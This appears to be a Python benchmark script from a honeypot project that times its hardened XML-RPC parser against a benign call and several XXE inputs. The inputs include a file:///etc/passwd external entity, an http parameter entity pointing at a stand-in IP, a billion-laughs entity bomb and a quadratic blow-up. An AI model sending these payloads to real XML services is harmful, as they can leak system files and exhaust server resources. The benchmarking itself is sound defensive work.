"""XXE parser figures: a benign XML-RPC call, a file:// entity answered from the fake host,
and the entity bombs (billion laughs refused from the declarations, quadratic blow-up stopped
by libxml2's amplification limit): time per document and peak Python memory.

    .venv/bin/python bench/xxe_bench.py [--rounds 200]
"""

from __future__ import annotations

import argparse
import tempfile
import time
import tracemalloc
from pathlib import Path

from phantomnet.deception.host import FakeHost
from phantomnet.sensors.http.xxe import parse

LOL = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    + b"]><methodCall><methodName>&l9;</methodName></methodCall>"
)
CASES = {
    "benign methodCall": b"<methodCall><methodName>demo.sayHello</methodName></methodCall>",
    "file:///etc/passwd entity": b'<!DOCTYPE m [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<methodCall><methodName>&e;</methodName></methodCall>",
    "http:// entity (recorded)": b'<!DOCTYPE m [<!ENTITY % d SYSTEM "http://192.0.2.1/x"> %d;]>'
    b"<methodCall><methodName>x</methodName></methodCall>",
    "billion laughs (10^9)": LOL,
    "quadratic 40 KB x 4000": b'<!DOCTYPE m [<!ENTITY a "'
    + b"A" * 40_000
    + b'">]><m>'
    + b"&a;" * 4000
    + b"</m>",
}


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rounds", type=int, default=200)
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        host = FakeHost.load(Path(tmp))
        fs = host.fs("192.0.2.50")
        print(f"{'case':<28} {'per doc':>10} {'peak mem':>10}  outcome")
        for name, body in CASES.items():
            parse(body, fs)  # warm up
            t0 = time.perf_counter()
            for _ in range(args.rounds):
                doc = parse(body, fs)
            per = (time.perf_counter() - t0) / args.rounds
            tracemalloc.start()
            parse(body, fs)
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            outcome = "refused: " + doc.error[:40] if doc.error else "parsed"
            print(f"{name:<28} {per * 1e3:>8.3f}ms {peak / 1024:>8.0f}KB  {outcome}")
        host.close()


if __name__ == "__main__":
    main()
